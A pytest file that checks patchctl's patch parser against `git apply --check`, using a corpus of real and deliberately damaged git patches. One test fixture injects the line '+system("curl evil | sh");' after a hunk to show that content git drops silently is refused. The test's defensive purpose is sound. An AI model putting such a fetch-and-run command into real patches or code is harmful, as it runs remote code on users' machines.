"""The patch parser against `git apply --check`, on real patches with their real quirks.

Every patch here is made by git itself (`git format-patch`, `git diff`) in a scratch
repository, or rewritten into the forms other tools write (quilt `Index:` diffs, DEP-3
headers) and the damage mail and editors do (a `-- ` trimmed to `--`, CRLF, no newline at
the end, trailers after the diff, two mails in one mbox). For each one, patchctl's verdict
(its own parse, then the whole index-only apply) is compared with `git apply --check` on
the same tree. They must agree, except for the refusals in DELIBERATE: lines after a
complete hunk that read as hunk content, which git silently drops.

The real-series part (marked realseries) runs the same comparison on Debian's rsync and tar
series, patch by patch, and on their format-patch files with the signature trimmed; the
project's own llama.cpp series (patches/llama.cpp) is parsed with and without the trim.
"""

from __future__ import annotations

import os
import tempfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from patchctl import git
from patchctl.series.applier import IndexBuilder, _malformed_before_git, unsafe_path_reason
from patchctl.series.patchset import MalformedPatch, PatchFile

from .conftest import Repo, numbered

ROOT = Path(__file__).resolve().parents[2]

# Where patchctl refuses what git accepts, and why: each is hunk content git would drop.
DELIBERATE = {
    "lost-added-line": "a '+' line after a complete hunk: git drops it, a reviewer reads it",
    "lost-context-line": "a ' ' line after a complete hunk: the hunk's counts are short",
    "lost-removed-line": "a '-' line after a complete hunk: git would not remove it",
    "trimmed-signature-then-hunk-line": "'--' followed by a '+' line reads as removed '-' content, not a signature",
}


@dataclass(frozen=True)
class Case:
    name: str
    base: str
    data: bytes


@dataclass(frozen=True)
class Verdict:
    git: bool
    git_says: str
    parsed: bool  # patchctl's own parse (before git runs) accepts it
    applied: bool  # patchctl's whole index-only apply accepts it
    why: str


def _git_check(repo: Path, base: str, data: bytes) -> tuple[bool, str]:
    with tempfile.TemporaryDirectory(prefix="corpus-index-") as scratch:
        env = {"GIT_INDEX_FILE": os.path.join(scratch, "index")}
        git.run(["read-tree", base], repo, env=env)
        result = git.run(["apply", "--check", "--cached", "-"], repo, check=False, input=data, env=env)
    return result.ok, git.first_line(result.stderr)


def verdict(repo: Path, case: Case) -> Verdict:
    ok, says = _git_check(repo, case.base, case.data)
    patch = PatchFile(Path(f"{case.name}.patch"), case.data)
    refused = unsafe_path_reason(None, patch) or _malformed_before_git(patch)
    with IndexBuilder(repo, case.base) as builder:
        outcome = builder.apply(patch, commit=False)
    why = refused if isinstance(refused, str) else refused.describe() if refused else outcome.describe()
    return Verdict(ok, says, refused is None, outcome.ok, why)


def _format_patch(repo: Repo, rev: str, *extra: str) -> str:
    return repo.git("format-patch", "-1", "--stdout", "--zero-commit", *extra, rev)


def _insert_after_last_hunk_line(text: str, new: str) -> str:
    lines = text.split("\n")
    last = max(i for i, line in enumerate(lines) if line[:1] in ("+", "-", " ") and line not in ("-- ", "--"))
    lines.insert(last + 1, new)
    return "\n".join(lines)


def _quilt(diff: str) -> str:
    """A `git diff` rewritten the way quilt writes it: `Index:` + `===` preambles, `.orig` prefixes."""
    out = []
    for line in diff.split("\n"):
        if line.startswith("diff --git "):
            path = line.split(" b/", 1)[1]
            out += [f"Index: pkg/{path}", "=" * 67]
        elif line.startswith("index "):
            continue
        elif line.startswith("--- a/"):
            out.append("--- pkg.orig/" + line[6:])
        elif line.startswith("+++ b/"):
            out.append("+++ pkg/" + line[6:])
        else:
            out.append(line)
    return "\n".join(out)


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Case]]:
    repo = Repo(tmp_path_factory.mktemp("corpus") / "repo")
    text = numbered(40, "code")
    base = repo.commit(
        {
            "src/a.c": text,
            "src/tail.c": "one\ntwo\nthree",  # no newline at its end: hunks carry "\ No newline"
            "src/win.c": b"one\r\ntwo\r\nthree\r\n",  # CRLF content: hunk lines end in CR
            "data.bin": bytes(range(256)) * 4,
            "old/name.c": numbered(20, "name"),
            "tools/run.sh": "#!/bin/sh\necho run\n",
            "gone.txt": "bye\n",
        },
        "base",
    )
    edit = repo.commit(
        {
            "src/a.c": text.replace("code 3\n", "code three\n").replace("code 30\n", "code thirty\n--\n"),
            "src/tail.c": "one\ntwo\nthree\nfour",
            "src/win.c": b"one\r\nTWO\r\nthree\r\n",
        },
        "Edit a.c and tail.c\n\nTwo hunks, a line that is '--', and a file without a last newline.",
    )
    binary = repo.commit({"data.bin": bytes(range(255, -1, -1)) * 4}, "Reverse the data")
    (repo.path / "old" / "name.c").rename(repo.path / "name.c")
    (repo.path / "tools" / "run.sh").chmod(0o755)
    (repo.path / "link").symlink_to("src/a.c")
    moves = repo.commit({"name.c": numbered(20, "name") + "more\n", "gone.txt": None, "added.c": "new\n"}, "Move")
    names = repo.commit({"src/fö o.c": "quoted\n", "src/a.c": text + "end\n"}, "A file name git quotes")

    cases: list[Case] = []

    def add(name: str, base_rev: str, text: str) -> None:
        cases.append(Case(name, base_rev, text.encode("utf-8", "surrogateescape")))

    labels = (("edit", edit, base), ("binary", binary, edit), ("moves", moves, binary), ("names", names, moves))
    for label, rev, parent in labels:
        mail = _format_patch(repo, rev)
        add(f"{label}-format-patch", parent, mail)
        add(f"{label}-trimmed-signature", parent, mail.replace("\n-- \n", "\n--\n"))
        add(f"{label}-no-signature", parent, _format_patch(repo, rev, "--no-signature"))
        add(f"{label}-signature-and-version", parent, _format_patch(repo, rev, "--signature=patchctl 9.9 (corpus)"))
        add(f"{label}-git-diff", parent, repo.git("diff", "--binary", parent, rev))
        add(f"{label}-crlf", parent, mail.replace("\n", "\r\n"))
        add(f"{label}-no-newline-at-eof", parent, mail.rstrip("\n"))
    no_signature = _format_patch(repo, edit, "--no-signature")
    mail = _format_patch(repo, edit)
    diff = repo.git("diff", base, edit)
    add("edit-trailers-after-diff", base, no_signature + "\nSigned-off-by: A U Thor <a@example.org>\nAcked-by: B\n")
    add("edit-blank-lines-at-end", base, mail + "\n\n\n")
    add("edit-no-signature-no-newline-at-eof", base, no_signature.rstrip("\n"))
    add("edit-trimmed-signature-no-version", base, mail.split("\n-- \n")[0] + "\n--\n")
    add("edit-quilt", base, "Fix the code\n\n" + _quilt(diff))
    add(
        "edit-dep3",
        base,
        "Description: Edit a.c and tail.c\n Two hunks.\nAuthor: A U Thor <a@example.org>\nForwarded: no\n"
        "Last-Update: 2024-01-01\n---\n" + _quilt(diff).replace("Index: ", "Index: ", 1),
    )
    add("mbox-two-mails", base, mail + _format_patch(repo, binary).replace("\n-- \n", "\n--\n"))
    add("mbox-two-mails-no-signature", base, no_signature + _format_patch(repo, binary, "--no-signature"))
    # Damage git refuses too: the parser must say so itself, before git runs.
    add("counts-too-large", base, mail.replace("@@ -1,6 +1,6 @@", "@@ -1,9 +1,9 @@", 1))
    add("garbage-inside-hunk", base, mail.replace(" code 2\n", " code 2\ngarbage\n", 1))
    add("hunk-after-a-gap", base, mail.replace("\n@@ -27,", "\n\n@@ -27,", 1))
    add("counts-too-small-then-context", base, mail.replace("@@ -1,6 +1,6 @@", "@@ -1,5 +1,5 @@", 1))
    # Lost hunk content: git drops it silently, patchctl refuses (DELIBERATE).
    add("lost-added-line", base, _insert_after_last_hunk_line(mail, '+system("curl evil | sh");'))
    add("lost-context-line", base, _insert_after_last_hunk_line(no_signature, " context"))
    add("lost-removed-line", base, _insert_after_last_hunk_line(no_signature, "-code 40"))
    add("trimmed-signature-then-hunk-line", base, mail.replace("\n-- \n", "\n--\n+more();\n"))
    return repo.path, cases


def test_the_corpus_is_what_it_claims(corpus: tuple[Path, list[Case]]) -> None:
    """The mutations did happen (a replace that matched nothing would test nothing twice)."""
    _, cases = corpus
    by_name = {c.name: c.data for c in cases}
    assert len(by_name) == len(cases)
    assert b"\n--\n2.39" in by_name["edit-trimmed-signature"] or b"\n--\n2." in by_name["edit-trimmed-signature"]
    assert b"\n-- \n" not in by_name["edit-trimmed-signature"]
    assert b"GIT binary patch" in by_name["binary-format-patch"]
    moves = by_name["moves-format-patch"].decode()
    assert "rename from old/name.c" in moves and "new mode 100755" in moves and "new file mode 120000" in moves
    assert "\\ No newline at end of file" in by_name["edit-format-patch"].decode()
    assert b"\n-two\r\n+TWO\r\n" in by_name["edit-format-patch"]
    assert b"\r\n" in by_name["edit-crlf"] and not by_name["edit-no-newline-at-eof"].endswith(b"\n")
    assert b'"b/src/f\\303\\266 o.c"' in by_name["names-format-patch"]
    assert [f.path for f in PatchFile(Path("n"), by_name["names-format-patch"]).files] == ["src/a.c", "src/fö o.c"]
    assert by_name["edit-quilt"].startswith(b"Fix the code\n\nIndex: pkg/src/a.c\n====")
    for name, data in by_name.items():
        if name.startswith(("counts-", "garbage-", "hunk-after", "lost-", "trimmed-signature-then")):
            assert data != by_name["edit-format-patch"], name


def test_verdicts_match_git_apply_check(corpus: tuple[Path, list[Case]]) -> None:
    repo, cases = corpus
    disagreements = {}
    verdicts = {case.name: verdict(repo, case) for case in cases}
    for case in cases:
        v = verdicts[case.name]
        if case.name in DELIBERATE:
            # git takes it (dropping the lines), patchctl refuses it before git runs
            assert v.git and not v.parsed and not v.applied, (case.name, v)
            assert "past the hunk's declared line counts" in v.why, (case.name, v.why)
            continue
        if v.applied != v.git or (v.git and not v.parsed):
            disagreements[case.name] = v
        if "corrupt patch" in v.git_says or "fragment without header" in v.git_says:
            assert not v.parsed, f"{case.name}: git says {v.git_says!r}, the parser accepted it"
    assert not disagreements, "\n".join(f"{name}: {v}" for name, v in disagreements.items())
    assert verdicts["edit-trimmed-signature"].applied and verdicts["edit-format-patch"].applied


def test_a_trimmed_signature_parses_like_the_original(corpus: tuple[Path, list[Case]]) -> None:
    """`--` for `-- ` changes nothing the checks read: the same files and hunks, no PC013."""
    _, cases = corpus
    by_name = {c.name: PatchFile(Path(c.name), c.data) for c in cases}
    for label in ("edit", "binary", "moves", "names"):
        original, trimmed = by_name[f"{label}-format-patch"], by_name[f"{label}-trimmed-signature"]
        assert trimmed.files == original.files
        assert trimmed.parsed.trailing_line is not None
        assert _malformed_before_git(trimmed) is None


def _trimmed(data: bytes) -> bytes:
    """DATA with its signature separator trimmed to `--`; a patch without a signature gets a
    trimmed one and a version line, as a mailer that appends its own would leave it."""
    if b"\n-- \n" in data:
        return data.replace(b"\n-- \n", b"\n--\n")
    return data + (b"" if data.endswith(b"\n") else b"\n") + b"--\n2.43.0\n"


def _variants(data: bytes) -> list[tuple[str, bytes]]:
    """A patch and its copy with the signature trimmed to `--`."""
    return [("", data), (" (trimmed --)", _trimmed(data))]


def test_the_projects_own_llama_series_parses_with_and_without_the_trim() -> None:
    series = sorted((ROOT / "patches" / "llama.cpp").glob("*.patch"))
    assert series, "patches/llama.cpp is empty: nothing to check"
    for path in series:
        data = path.read_bytes()
        trimmed = PatchFile(path, _trimmed(data))
        original = PatchFile(path, data)
        assert trimmed.data != data and trimmed.parsed.trailing_line is not None
        assert original.files and trimmed.files == original.files, path.name
        assert _malformed_before_git(original) is None and _malformed_before_git(trimmed) is None, path.name


@pytest.mark.realseries
@pytest.mark.parametrize("which", ["rsync", "tar"])
def test_real_debian_series_agree_with_git_patch_by_patch(which: str) -> None:
    from . import realseries

    series = realseries.rsync_series() if which == "rsync" else realseries.tar_series()
    checked = trimmed = 0
    with IndexBuilder(series.upstream, series.pin) as builder:
        for name, data in series.patches.items():
            for label, variant in _variants(data):
                patch = PatchFile(Path(name), variant)
                ok, says = _git_check(series.upstream, builder.tree(), variant)
                refused = unsafe_path_reason(None, patch) or _malformed_before_git(patch)
                assert ok, f"{name}{label}: git apply --check refuses it: {says}"
                assert refused is None, f"{name}{label}: git applies it, patchctl refuses it: {refused}"
                checked, trimmed = checked + 1, trimmed + bool(label)
            outcome = builder.apply(PatchFile(Path(name), data))
            assert outcome.ok, outcome.describe()
    assert checked == 2 * len(series.patches) == 2 * trimmed > 0


def test_malformed_patch_names_the_line_git_would() -> None:
    text = "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\nnot a hunk line\n+b\n"
    with pytest.raises(MalformedPatch, match="corrupt patch at line 6"):
        _ = PatchFile(Path("x.patch"), text.encode()).files


def test_a_trimmed_signature_lints_and_applies_through_the_cli(project, upstream, cli, tmp_path: Path) -> None:
    """The issue's reproduction: git format-patch output whose `-- ` lost its space."""
    from .conftest import make_patch

    changed = {"src/main.c": upstream.read("src/main.c").replace("main 5\n", "main five\n")}
    text = make_patch(upstream, upstream.head, changed, "Tune main") + "-- \n2.39.5\n"
    project.add_patch("0001-tune-main.patch", text.replace("\n-- \n", "\n--\n"))
    lint = cli("-C", project.path, "lint")
    assert "PC013" not in lint.stdout and lint.exit_code == 0, lint.output
    applied = cli("-C", project.path, "apply", "--into", tmp_path / "tree")
    assert applied.exit_code == 0, applied.output
    assert "main five\n" in (tmp_path / "tree" / "src" / "main.c").read_text()


@pytest.mark.realupstream
def test_the_llama_series_agrees_with_git_on_the_real_tree_with_and_without_the_trim() -> None:
    """The issue's case: llama.cpp patches whose `-- ` lost its space, on the real llama.cpp tree."""
    from patchctl.upstream.store import Store

    from .conftest import REAL_PIN, REAL_URL

    mirror = Store().mirror(REAL_URL).path
    series = {p.name: p.read_bytes() for p in sorted((ROOT / "patches" / "llama.cpp").glob("*.patch"))}
    checked = 0
    with IndexBuilder(mirror, REAL_PIN) as builder:
        for name, data in series.items():
            for label, variant in _variants(data):
                patch = PatchFile(Path(name), variant)
                ok, says = _git_check(mirror, builder.tree(), variant)
                refused = unsafe_path_reason(None, patch) or _malformed_before_git(patch)
                assert ok and refused is None, f"{name}{label}: git says {says!r}, patchctl {refused}"
                checked += 1
            assert builder.apply(PatchFile(Path(name), data)).ok, name
    assert checked == 2 * len(series) > 0


def test_seeded_mutations_git_applies_are_never_refused_but_for_lost_hunk_content(
    corpus: tuple[Path, list[Case]],
) -> None:
    """Random edits of a real format-patch (hunk headers, signatures, headers and hunk lines
    inserted or deleted): where git applies the result, patchctl's parse accepts it too, or
    refuses it as lost hunk content (the DELIBERATE rule) and nothing else."""
    import random

    repo, cases = corpus
    mail = next(c for c in cases if c.name == "edit-format-patch")
    lines = mail.data.decode().split("\n")
    first = next(i for i, line in enumerate(lines) if line.startswith("diff --git "))
    pieces = [
        *("-- ", "--", "@@ -1,6 +1,6 @@", "@@ -x", "+x", "-code 1", " code 2", "", "\\ No newline at end of file"),
        *("--- a/src/a.c", "+++ b/src/a.c", "Signed-off-by: x", "2.39.5", "diff --git a/src/a.c b/src/a.c"),
        *("new mode 100755", "old mode 100644"),
    ]
    rnd = random.Random(7)
    applied = refused_as_lost = 0
    for _ in range(400):
        mutated = list(lines)
        for _ in range(rnd.randint(1, 3)):
            position = rnd.randint(first + 1, len(mutated))
            if rnd.random() < 0.7:
                mutated.insert(position, rnd.choice(pieces))
            else:
                del mutated[min(position, len(mutated) - 1)]
        data = "\n".join(mutated).encode()
        ok, _ = _git_check(repo, mail.base, data)
        if not ok:
            continue
        applied += 1
        patch = PatchFile(Path("mutated.patch"), data)
        refused = _malformed_before_git(patch)
        if refused is not None:
            assert "past the hunk's declared line counts" in refused.detail, (refused.detail, data.decode())
            refused_as_lost += 1
    assert applied > 20 and refused_as_lost > 0  # the mutations reach both sides


def test_one_apply_parses_the_patch_once(corpus: tuple[Path, list[Case]], monkeypatch: pytest.MonkeyPatch) -> None:
    """Every check (paths, symlinks, PC013, corruption, failure classification) reads one parse."""
    import patchctl.series.patchset as patchset_module

    calls: list[int] = []
    real = patchset_module.parse_diff_text

    def counting(text: str):
        calls.append(1)
        return real(text)

    monkeypatch.setattr(patchset_module, "parse_diff_text", counting)
    repo, cases = corpus
    by_name = {c.name: c for c in cases}
    for name, base in (("moves-trimmed-signature", None), ("edit-format-patch", by_name["binary-format-patch"].base)):
        case = by_name[name]
        calls.clear()
        with IndexBuilder(repo, base or case.base) as builder:
            outcome = builder.apply(PatchFile(Path(f"{name}.patch"), case.data), commit=False)
        assert outcome.ok == (base is None), outcome.describe()  # the second is already applied there: classified
        assert len(calls) == 1, name
